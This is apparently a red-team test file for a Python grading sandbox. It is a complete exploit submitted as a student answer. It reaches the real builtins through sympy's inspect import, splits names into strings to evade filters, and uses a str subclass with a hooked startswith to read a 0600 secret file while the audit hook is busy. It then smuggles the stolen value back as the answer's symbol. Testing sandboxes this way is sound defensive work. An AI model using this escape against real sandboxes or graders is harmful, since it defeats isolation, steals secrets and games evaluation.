"""effect: read-secret
tries: open() a readable sympy file whose path is a str subclass: the hook's realpath() calls our startswith() while busy, which reads the 0600 secret.

Route 1 through the 'open' event: posixpath.isabs calls path.startswith, a method the student
defines.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.sets.sets import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

box = []


def work():
    box.append(B["op" + "en"]("/tmp/lagrade-redteam/secret-0600.txt").read().strip())

ran = []


def once():
    if not ran:
        ran.append(1)
        work()


# route 1 through the "open" event: check_open -> is_readable -> os.path.realpath(path) ->
# isabs(path) -> path.startswith("/"): our method, called while the hook is busy. The path itself
# is a readable sympy file so the open then goes through.
def hook_startswith(self, *args):
    once()
    return str.startswith(str(self), *args)


Evil = type("Evil", (str,), {"startswith": hook_startswith})
B["op" + "en"](Evil(inspect.getfile(inspect))).read(1)
once()  # if no hook ran it (none installed, or one that never calls student code): try anyway

L = Symbol(box[0] if box else "nothing_stolen")   # the stolen token comes back as the Lagrangian's read_as
